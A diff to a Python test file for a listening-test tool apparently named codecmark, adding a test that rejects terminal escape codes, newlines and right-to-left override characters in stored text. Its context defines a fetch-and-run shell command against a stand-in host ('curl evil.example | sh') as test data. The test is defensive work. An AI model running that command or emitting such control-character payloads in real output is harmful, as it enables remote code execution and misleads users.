@@ -1,4 +1,4 @@
-"""A test's folder may be a stranger's: no command writes out of it through a link."""
+"""A test's folder may be a stranger's: nothing is written out of it, and no text in it acts."""
 
 from __future__ import annotations
 
@@ -6,14 +6,18 @@ import hashlib
 import json
 from pathlib import Path
 
+import msgspec
 import pytest
 from msgspec.structs import replace
 
 from codecmark.__main__ import main
+from codecmark.errors import InputError
 from codecmark.listen import design as designs
-from codecmark.listen import webmushra
+from codecmark.listen import entries, webmushra
 from codecmark.listen.design import Design
+from codecmark.listen.entries import Joined
 from codecmark.listen.journal import Journal
+from codecmark.results.lines import sealed
 from listening_tests import planned
 
 EVIL = b"curl evil.example | sh\n"
@@ -119,3 +123,25 @@ def test_saving_copies_no_name_that_acts(tmp_path: Path, home: Path) -> None:
     (folder / "ratings.csv").write_text("listener,clip,system,rating\nu,c,a,5\nu,c,b,6\n")
     assert main(["listen", "results", str(folder), "--save", str(home)]) == 2
     assert untouched(home)
+
+
+@pytest.mark.parametrize("text", ["\x1b]0;evil\x07", "a\nb", "a\u202eb"])
+def test_what_moves_the_cursor_is_shown_nowhere(design: Design, text: str) -> None:
+    entry = Joined("s" * 22, text, 0, None, "now")
+    (design.folder / designs.ANSWERS).write_bytes(sealed(msgspec.json.encode(entry).decode()))
+    with pytest.raises(InputError, match="holds what is no text"):
+        entries.read(design)
+    name, known = next(iter(design.key.stimuli.items()))
+    for plan, key in (
+        (replace(design.plan, title=text), design.key),
+        (
+            design.plan,
+            replace(design.key, stimuli={**design.key.stimuli, name: replace(known, system=text)}),
+        ),
+    ):
+        with pytest.raises(InputError, match="holds what is no text"):
+            designs.write(design.folder, plan, key)
+        for file, kept in ((designs.PLAN, plan), (designs.KEY, key)):
+            (design.folder / file).write_bytes(msgspec.json.encode(kept))
+        with pytest.raises(InputError, match="holds what is no text"):
+            designs.read(design.folder)
